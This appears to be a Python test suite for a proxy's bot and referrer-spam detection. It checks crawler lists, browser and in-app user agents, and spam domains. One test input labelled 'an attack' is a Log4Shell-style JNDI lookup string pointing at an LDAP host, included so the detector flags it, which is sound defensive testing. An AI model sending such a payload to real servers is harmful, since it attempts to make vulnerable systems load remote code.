"""Robots by what they call themselves, and referrers that nobody follows.

Judged by published lists that are kept by other people: of robots (one that the product matches with, and one that it
doesn't), of browsers, and ua-parser's own test cases.
"""

from pathlib import Path

import crawleruseragents
import pytest
import ua_parser
from hypothesis import example, given
from hypothesis import strategies as st

from proxy.bots import is_referrer_spam, is_robot
from proxy.lookups import is_robot as is_robot_remembered
from tests.proxy.visit import CHROME

FIXTURES = Path(__file__).parent / "fixtures"


def lines_of(name: str) -> list[str]:
    """A fixture's lines, without its head."""
    text = (FIXTURES / name).read_text(encoding="utf-8")
    return [line for line in text.splitlines() if not line.startswith("# ")]


ROBOTS = {
    "crawler-user-agents, its instances": sorted(
        {instance for entry in crawleruseragents.CRAWLER_USER_AGENTS_DATA for instance in entry["instances"]}
    ),
    "CrawlerDetect": lines_of("crawlerdetect_crawlers.txt"),
}


@pytest.mark.parametrize("robots", ROBOTS.values(), ids=ROBOTS.keys())
def test_98_of_100_published_robots_are_found(robots: list[str]) -> None:
    """Of every published list, whether the product matches with it or not."""
    missed = [robot for robot in robots if not is_robot(robot)]
    assert len(robots) > 1000
    assert len(missed) <= 0.02 * len(robots), "\n".join([f"{len(missed)} of {len(robots)}", *missed])


def test_none_of_the_hundred_most_common_browsers_is_refused() -> None:
    """Whoever comes with what most come with is a visitor."""
    browsers = lines_of("top_user_agents.txt")
    assert len(browsers) == 100
    assert [browser for browser in browsers if is_robot(browser)] == []


def test_no_browser_of_ua_parsers_cases_is_refused() -> None:
    """Nor are the browsers that ua-parser is tested with, back to 2002.

    Left out are what no browser sends by itself: a bare name without the brackets that all browsers write, Apple's
    background requests, a headless browser, and two people who wrote a link into theirs, which is the mark of robots.
    """
    told = ("CFNetwork", "HeadlessChrome", "http://", "https://")
    browsers = [line.split("\t")[1] for line in lines_of("ua_parser_browsers.tsv")]
    browsers = [browser for browser in browsers if "(" in browser and not any(word in browser for word in told)]
    assert len(browsers) > 1000
    assert [browser for browser in browsers if is_robot(browser)] == []


def test_ua_parsers_spiders_are_robots_here_too() -> None:
    """What ua-parser calls a spider among CrawlerDetect's robots is found, all of it."""
    spiders = [
        robot
        for robot in ROBOTS["CrawlerDetect"]
        if (device := ua_parser.parse(robot).device) is not None and device.family == "Spider"
    ]
    assert len(spiders) > 500
    assert [spider for spider in spiders if not is_robot(spider)] == []


PIXEL = "Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
PEOPLE = {
    "Facebook on an iPhone": f"{IPHONE}Mobile/22B83 [FBAN/FBIOS;FBAV/489.0.0.40.77;FBBV/661291843;FBDV/iPhone14,5;FBMD/"
    "iPhone;FBSN/iOS;FBSV/18.1;FBSS/3;FBID/phone;FBLC/nb_NO;FBOP/5;FBRV/0;IABMV/1]",
    "Facebook on a Pixel": f"{PIXEL}Version/4.0 Chrome/130.0.6723.86 Mobile Safari/537.36 [FB_IAB/FB4A;"
    "FBAV/489.0.0.66.81;IABMV/1;]",
    "Messenger": f"{IPHONE}Mobile/22B83 [FBAN/MessengerForiOS;FBAV/480.0.0.33.106;FBLC/nb_NO;]",
    "Instagram on a Pixel": f"{PIXEL}Version/4.0 Chrome/130.0.6723.86 Mobile Safari/537.36 Instagram 356.0.0.41.101 "
    "Android (34/14; 420dpi; 1080x2209; Google/google; Pixel 8; shiba; shiba; nb_NO; 656366046)",
    "Instagram on a Nexus": f"{PIXEL}Version/4.0 Chrome/60.0 Mobile Safari/537.36 Instagram 15.0.0.11.90 Android "
    "(25/7.1.1; 560dpi; 1440x2392; motorola/google; Nexus 6; shamu; shamu; nb_NO)",
    "the Google app on an iPhone": f"{IPHONE}GSA/341.3.692278309 Mobile/15E148 Safari/604.1",
    "the Google app on a Pixel": f"{PIXEL}Version/4.0 Chrome/130.0.6723.86 Mobile Safari/537.36 GSA/15.43.37.28.arm64",
    "Snapchat": f"{IPHONE}Mobile/15E148 Snapchat/13.15.1.41 (like Safari/8619.2.8.10.9, panda)",
    "TikTok on an iPhone": f"{IPHONE}Mobile/22B83 musical_ly_37.0.0 BytedanceWebview/d8a21c6 ByteFullLocale/nb",
    "TikTok on a Pixel": f"{PIXEL}Version/4.0 Chrome/130.0.6723.86 Mobile Safari/537.36 trill_370003 JsSdk/1.0 "
    "NetType/WIFI Channel/googleplay AppName/trill app_version/37.0.3 ByteLocale/nb ByteFullLocale/nb Region/NO",
    "LinkedIn": f"{IPHONE}Mobile/22B83 [LinkedInApp]/9.30.1234",
    "Pinterest": f"{IPHONE}Mobile/22B83 [Pinterest/iOS]",
    "a telephone called bot": "Mozilla/5.0 (Linux; Android 7.0; M bot 60 Build/NRD90M) AppleWebKit/537.36 (KHTML, like "
    "Gecko) Chrome/67.0.3396.87 Mobile Safari/537.36",
    "a telephone called Cubot": "Mozilla/5.0 (Linux; Android 11; CUBOT NOTE 20) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Mobile Safari/537.36",
    "Chrome": CHROME,
}
PROGRAMS = {
    "nothing": "",
    "a name": "Firefox",
    "curl": "curl/8.5.0",
    "a longer curl": "curl/7.88.1 (x86_64-pc-linux-gnu) libcurl/7.88.1",
    "requests": "python-requests/2.32.3",
    "aiohttp": "Python/3.11 aiohttp/3.10.5",
    "Go": "Go-http-client/2.0",
    "Java": "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "okhttp": "okhttp/4.12.0",
    "axios": "axios/1.7.7",
    "node": "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Apple's library": "MyApp/1 CFNetwork/1568.200.51 Darwin/24.1.0",
    "Word": "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Word 16.0.13231; Pro)",
    "Google": "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/130.0.6723.91 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Facebook's preview": "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "OpenAI": "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "a headless Chrome": CHROME.replace("Chrome/", "HeadlessChrome/"),
    "Lighthouse": f"{CHROME} Chrome-Lighthouse",
    "an attack": "${jndi:ldap://198.51.100.7/a}",
}


@pytest.mark.parametrize("user_agent", PEOPLE.values(), ids=PEOPLE.keys())
def test_an_app_that_shows_a_page_is_a_person(user_agent: str) -> None:
    """Whoever follows a link in an app reads it there, and telephones have odd names."""
    assert not is_robot(user_agent)


@pytest.mark.parametrize("user_agent", PROGRAMS.values(), ids=PROGRAMS.keys())
def test_a_program_is_a_robot(user_agent: str) -> None:
    """Libraries, previews, crawlers and whoever says nothing or next to nothing."""
    assert is_robot(user_agent)


@given(st.text(st.characters(exclude_categories=()), max_size=1200))
@example("\udce6" * 1000)
def test_any_user_agent_has_an_answer(user_agent: str) -> None:
    """Remembered or not, and whatever bytes were sent."""
    assert is_robot_remembered(user_agent) is is_robot(user_agent)


def test_what_stands_far_behind_is_not_searched() -> None:
    """A user agent of any length costs what one of 500 characters costs: the rest is never looked at."""
    assert is_robot(f"{CHROME} ".ljust(480) + "Googlebot/2.1")
    assert not is_robot(f"{CHROME} ".ljust(500) + "Googlebot/2.1")


SPAM = {
    "listed": ("semalt.com", True),
    "below a listed one": ("nb.semalt.com", True),
    "far below": ("a.b.c.semalt.com", True),
    "in capitals, with its root": ("SEMALT.com.", True),
    "a listed subdomain": ("wallabag.malooma.bzh", True),
    "above a listed subdomain": ("malooma.bzh", False),
    "one that ends alike": ("notsemalt.com", False),
    "a suffix": ("com", False),
    "a public suffix that the source lists": ("shop.kharkov.ua", False),
    "a search engine": ("google.com", False),
    "a shop": ("shop.no", False),
    "an address": ("198.51.100.7", False),
    "nothing": ("", False),
}


@pytest.mark.parametrize(("host", "spam"), SPAM.values(), ids=SPAM.keys())
def test_a_referrer_spammer_is_known_by_its_host(host: str, spam: bool) -> None:  # noqa: FBT001 - it is the table's column
    """The host or a domain above it stands on the list; a look-alike doesn't."""
    assert is_referrer_spam(host) is spam
